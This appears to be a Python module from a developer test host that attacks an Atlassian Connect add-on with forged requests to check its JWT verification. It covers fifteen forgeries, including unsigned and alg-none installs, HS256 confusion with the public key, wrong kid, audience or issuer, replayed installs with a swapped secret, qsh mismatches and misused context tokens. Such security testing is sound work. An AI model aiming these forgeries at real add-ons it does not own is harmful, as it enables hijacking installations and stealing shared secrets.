"""Plays the attacker at one add-on: what anybody on the network could send it (reference 22, rows 2, 3, 8)."""

import secrets
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, replace
from typing import Any

from devhost.dialects.atlassian import lifecycle, opening
from devhost.dialects.atlassian.addresses import context_token
from devhost.dialects.atlassian.installation import SiteInstallation
from devhost.dialects.atlassian.keys import public_pem, sign_rs256, stranger
from devhost.dialects.atlassian.modules import template_of
from devhost.dialects.atlassian.opening import SiteLook
from devhost.dialects.atlassian.place import Place
from devhost.dialects.atlassian.sites import Site
from devhost.dialects.atlassian.state import AtlassianState
from devhost.errors import bad_request
from devhost.wire.outbound import Answer, Ask
from devhost.wire.signing import sign
from devhost.world.broken import Forgery

Send = Callable[["Target"], Awaitable[Answer]]


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """The add-on that is attacked, and where."""

    state: AtlassianState
    site: Site
    installation: SiteInstallation
    place: Place


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack: what it is called, what it does, and how."""

    key: str
    title: str
    sentence: str
    send: Send


async def _unsigned(target: Target) -> Answer:
    return await _post(target, replace(_install(target), token=None, claims=None), "unsigned install")


async def _confused(target: Target) -> Answer:
    call = _install(target)
    _, key = target.state.keys.current
    return await _post(target, replace(call, token=sign(_claims(call), public_pem(key))), "HS256 install")


async def _own_secret(target: Target) -> Answer:
    call = _install(target)
    token = sign(_claims(call), call.body["sharedSecret"])
    return await _post(target, replace(call, token=token), "install signed with its own secret")


async def _no_algorithm(target: Target) -> Answer:
    call = _install(target)
    return await _post(target, replace(call, token=sign(_claims(call), "", algorithm="none")), "install, alg none")


async def _unknown_key(target: Target) -> Answer:
    call = _install(target)
    token = sign_rs256(_claims(call), stranger(), f"unknown-{secrets.token_hex(8)}")
    return await _post(target, replace(call, token=token), "install with an unknown kid")


async def _wrong_key(target: Target) -> Answer:
    call = _install(target)
    key_id, _ = target.state.keys.current
    token = sign_rs256(_claims(call), stranger(), key_id)
    return await _post(target, replace(call, token=token), "install signed with another key")


async def _other_audience(target: Target) -> Answer:
    call = _install(target)
    claims = _claims(call) | {"aud": f"{target.installation.base_url}.attacker.example"}
    return await _post(target, replace(call, token=target.state.keys.sign(claims)), "install for another add-on")


async def _other_issuer(target: Target) -> Answer:
    call = _install(target)
    claims = _claims(call) | {"iss": "the-client-key-of-the-attacker"}
    return await _post(target, replace(call, token=target.state.keys.sign(claims)), "install of another issuer")


async def _replayed(target: Target) -> Answer:
    """Take a token of the host's own, and post another secret with it."""
    genuine = lifecycle.signed_call(target.state, target.site, target.installation, "installed")
    first = await _post(target, genuine, "an install as the host sends it")
    if not first.ok:
        raise bad_request(f"The add-on does not take a genuine install: {first.told()}")
    body = genuine.body | {"sharedSecret": f"attacker-{secrets.token_urlsafe(40)}"}
    return await _post(target, replace(genuine, body=body), "replayed install with another secret")


async def _in_query(target: Target) -> Answer:
    call = _install(target)
    return await lifecycle.send(
        target.state,
        target.installation,
        call,
        purpose="install with its token in the query",
        query=f"?jwt={call.token}",
    )


async def _other_url(target: Target) -> Answer:
    return await opening.ask(target.state, replace(_page(target), forgery=Forgery.WRONG_PLACE))


async def _added_parameter(target: Target) -> Answer:
    url, claims = opening.address(target.state, _page(target))
    return await _get(target, f"{url}&admin=true", claims, "page with a parameter more")


async def _context_token(target: Target) -> Answer:
    url, _ = opening.address(target.state, _page(target))
    token = context_token(target.state, target.installation, target.place)
    return await _get(target, f"{url.partition('&jwt=')[0]}&jwt={token}", {"qsh": "context-qsh"}, "page, context token")


async def _context_uninstall(target: Target) -> Answer:
    call = lifecycle.signed_call(target.state, target.site, target.installation, "uninstalled")
    token = context_token(target.state, target.installation, target.place)
    return await _post(target, replace(call, token=token), "uninstall with a context token")


async def _secret_uninstall(target: Target) -> Answer:
    call = lifecycle.signed_call(target.state, target.site, target.installation, "uninstalled")
    return await _post(
        target, replace(call, token=sign(_claims(call), target.installation.secret)), "uninstall signed with the secret"
    )


ATTACKS = {
    one.key: one
    for one in (
        Attack("unsigned", "Unsigned install", "An install without any token, as hosts sent before 2021.", _unsigned),
        Attack(
            "confused",
            "HS256 with the public key",
            "The key that everybody may read, as if it were a secret.",
            _confused,
        ),
        Attack("own-secret", "HS256 with the new secret", "Signed with the very secret that it brings.", _own_secret),
        Attack("no-algorithm", "alg: none", "An install whose token has no signature.", _no_algorithm),
        Attack("unknown-kid", "Unknown kid", "Signed with a key that the key server does not have.", _unknown_key),
        Attack("wrong-key", "Another key", "The kid of the host, and the signature of somebody else.", _wrong_key),
        Attack(
            "audience",
            "Another add-on's install",
            "Signed by the host for an add-on whose address begins so.",
            _other_audience,
        ),
        Attack("issuer", "Another issuer", "Signed by the host for one site; the body names this one.", _other_issuer),
        Attack(
            "replay", "Replayed install", "A token that the host made, posted again with another secret.", _replayed
        ),
        Attack(
            "in-query",
            "Token in the query",
            "A good install whose token is in the address, where logs keep it.",
            _in_query,
        ),
        Attack(
            "other-url", "qsh of another URL", "A page, with a token that was signed for another address.", _other_url
        ),
        Attack("parameter", "Added parameter", "A page with one parameter more than was signed.", _added_parameter),
        Attack(
            "context-token",
            "Context token on a page",
            "A page, with the token that its own script gets.",
            _context_token,
        ),
        Attack(
            "context-uninstall", "Context token on uninstall", "An uninstall with a script's token.", _context_uninstall
        ),
        Attack("hs256-uninstall", "HS256 uninstall", "An uninstall signed with the shared secret.", _secret_uninstall),
    )
}


def _install(target: Target) -> lifecycle.Call:
    """Write an install with a secret of the attacker's own, signed as the host does."""
    secret = f"attacker-{secrets.token_urlsafe(40)}"
    return lifecycle.signed_call(target.state, target.site, target.installation, "installed", sharedSecret=secret)


def _claims(call: lifecycle.Call) -> dict[str, Any]:
    if call.claims is None:
        raise TypeError("a signed call has claims")
    return call.claims


def _page(target: Target) -> SiteLook:
    """Return the first page of the add-on whose address is signed."""
    for kind in target.installation.descriptor.modules:
        for module in target.installation.descriptor.of_type(kind):
            look = SiteLook(
                installation=target.installation, key=str(module.get("key", "")), kind=kind, place=target.place
            )
            relative = template_of(module).startswith("/") and "servlet/ac" not in template_of(module)
            if kind != "webhooks" and relative and module.get("cacheable") is not True:
                return look
    raise bad_request("The add-on has no page that could be asked for")


async def _post(target: Target, call: lifecycle.Call, purpose: str) -> Answer:
    return await lifecycle.send(target.state, target.installation, call, purpose=purpose)


async def _get(target: Target, url: str, claims: dict[str, Any], purpose: str) -> Answer:
    return await target.state.outbound.send(
        Ask(
            method="GET",
            url=url,
            purpose=purpose,
            timeout=target.state.settings.page_timeout,
            client_id=target.installation.client_key,
            claims=claims,
        )
    )
